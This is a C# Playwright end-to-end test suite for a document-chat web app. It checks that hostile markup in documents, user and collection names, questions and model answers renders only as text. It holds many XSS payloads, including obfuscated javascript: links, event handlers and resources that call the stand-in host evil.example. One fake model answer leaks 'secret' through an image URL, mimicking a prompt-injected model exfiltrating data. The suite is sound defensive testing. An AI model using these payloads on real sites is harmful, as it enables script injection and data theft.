using KnowledgeAssistant.Access;
using KnowledgeAssistant.Administration;
using KnowledgeAssistant.Collections;
using Microsoft.Playwright;

namespace KnowledgeAssistant.EndToEnd.Tests;

/// <summary>Markup in documents, names, questions, titles and answers. A visitor fails the test by herself when a script runs or another host is asked.</summary>
public sealed class HostileTextTests(Browser browser)
{
    private const string Payload = """<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload=alert(3)>""";

    // Every way in that a document, an answer or a name may try.
    private const string Rich = """
        <a href="&#106;avascript:alert(21)">a</a> <a href="java&#10;script:alert(22)">b</a> [c](JaVa\tScRiPt:alert(23)) [d](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=) [e][r] [f](vbscript:alert(25))
        <svg><animate onbegin=alert(26) attributeName=x dur=1s></svg> <math href="javascript:alert(27)">m</math> <object data="http://evil.example/o"></object> <embed src="http://evil.example/e">
        <style>@import url(http://evil.example/s.css); body { background: url(http://evil.example/b) }</style> <link rel=stylesheet href=http://evil.example/l.css> <base href=http://evil.example/>
        <form action=http://evil.example/f><button>send</button></form> <meta http-equiv=refresh content="0;url=http://evil.example/"> ![x][p] <p style="background:url(http://evil.example/i)">p</p> <http://evil.example/auto>

        [r]: javascript:alert(28)
        [p]: http://evil.example/reference.png
        """;

    private const string Document = $"""
        # Visitors {Payload}

        The reception desk [signs](javascript:alert(4)) every visitor in. ![logo](http://evil.example/pixel.png) {Payload}

        <iframe src="http://evil.example/frame"></iframe> Visitors wear a badge <a href="JaVaScRiPt:alert(5)">always</a>.

        {Rich}
        """;

    [Fact]
    public async Task Markup_of_documents_names_questions_and_titles_is_only_ever_text()
    {
        await using var world = await AskingWorld.StartAsync(browser, null, ($"visitors {Payload.Replace('/', '_')}.md", Document));
        var (visitor, page) = (world.Visitor, world.Visitor.Page);
        await world.App.Get<CollectionService>().UpdateAsync(world.User, world.Handbook, "Rules <b onmouseover=alert(6)>", Payload, world.App.Cancel);

        var turn = await visitor.AskAndWaitAsync($"Who signs every visitor in at the reception desk? {Payload}");
        await Expect(turn.Locator(".answer-text")).ToContainTextAsync("signs");
        await turn.Locator("a.cite").First.HoverAsync();
        await Expect(page.Locator("#quote-card")).ToBeVisibleAsync();
        await turn.Locator("a.cite").First.ClickAsync();
        await Expect(page.Locator(".source mark.marker").First).ToBeVisibleAsync();

        await visitor.OpenAsync($"/collections/{world.Handbook}");
        await Expect(page.Locator("h1")).ToHaveTextAsync("Rules <b onmouseover=alert(6)>");
        var version = await page.Locator("tr.document .document-name a").GetAttributeAsync("href");
        await page.GotoAsync($"{visitor.Url}/{version}");
        await Expect(page.Locator(".reading-page")).ToContainTextAsync("The reception desk");

        Assert.Equal(0, await page.Locator("main :is(img, iframe, script, [onerror], [onload], a[href^='javascript' i])").CountAsync());
    }

    [Fact]
    public async Task A_model_that_obeys_a_document_can_neither_run_nor_fetch_anything()
    {
        await using var model = await FakeOpenAI.StartAsync();
        model.Always(FakeAnswers.Whole(
            "Done [1]. ![x](http://evil.example/?q=secret) <img src=http://evil.example/y> [click](javascript:alert(1)) ",
            "[ref][r] <script>alert(2)</script>\n\n[r]: javascript:alert(3)\n\n<http://evil.example/auto>\n\n", Rich));
        await using var world = await AskingWorld.StartAsync(browser, model.Settings(), ("visitors.md", Document));

        var turn = await world.Visitor.AskAndWaitAsync("What do visitors wear?");

        await Expect(turn.Locator(".answer-text")).ToContainTextAsync("<script>alert(2)</script>");
        Assert.Equal(0, await turn.Locator(":is(img, script, a[href^='javascript' i])").CountAsync());
        await NothingRunsAsync(world.Visitor.Page);
        Assert.Equal(0, await turn.Locator(".answer-text a:not(.cite)").CountAsync());
    }

    [Fact]
    public async Task Markup_in_names_of_people_collections_and_conversations_is_text_on_every_page_that_shows_them()
    {
        await using var world = await AskingWorld.StartAsync(browser, null, ("a.md", "# Anything\n\nA text."));
        var (visitor, page, app) = (world.Visitor, world.Visitor.Page, world.App);
        await app.Get<AccountService>().RenameAsync(world.User, Payload, app.Cancel);
        var hostile = await app.AddPersonAsync("mallory@example.com", Visitor.Password, "<svg/onload=alert(7)><math><mi//xlink:href=\"data:x,<script>alert(8)</script>\">");
        await app.Get<CollectionService>().UpdateAsync(world.User, world.Handbook, Payload, Rich, app.Cancel);
        await app.Get<MemberService>().SetAsync(world.User, world.Handbook, hostile.Id, CollectionRole.Reader, app.Cancel);
        await app.Get<PeopleService>().InviteAsync(world.User, "x@example.com", PersonRole.User, app.Cancel);
        await visitor.AskAndWaitAsync($"Anything? {Payload}");
        var conversation = page.Url;

        foreach (var path in new[] { "/chat/new", "/collections", $"/collections/{world.Handbook}", $"/collections/{world.Handbook}?find=%3Csvg%20onload%3Dalert(9)%3E", "/people", "/account", "/sign-in?returnUrl=javascript:alert(10)", "/%3Cscript%3Ealert(11)%3C/script%3E" })
        {
            await page.GotoAsync(visitor.Url + path);
            await Expect(page.Locator("main")).ToBeVisibleAsync();
            await NothingRunsAsync(page);
        }

        await visitor.OpenAsync($"/collections/{world.Handbook}");
        await page.Locator(".bar-actions .text-button").ClickAsync();
        await Expect(page.Locator(".mud-dialog .links")).ToContainTextAsync("<svg/onload");
        await NothingRunsAsync(page);
        await page.GotoAsync(conversation);
        await visitor.ConnectedAsync();
        await page.Locator("[data-palette]").ClickAsync();
        await Expect(page.Locator(".palette-row").Filter(new() { HasText = "<img src=x" }).First).ToBeVisibleAsync();
        await page.Locator("#palette input").FillAsync("<img src=x onerror=alert(12)>");
        await Expect(page.Locator(".palette-none")).ToBeVisibleAsync();
        await NothingRunsAsync(page);
        visitor.Forget("404");
    }

    private static async Task NothingRunsAsync(IPage page) => Assert.Equal(0, await page.Locator(
        "body :is(img, iframe, object, embed, math, svg:not(.icon), style, base, form[action^='http'], a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i], [onerror], [onload], [onmouseover], [onclick], [style*='url(']), main script, .mud-dialog script, dialog script").CountAsync());
}
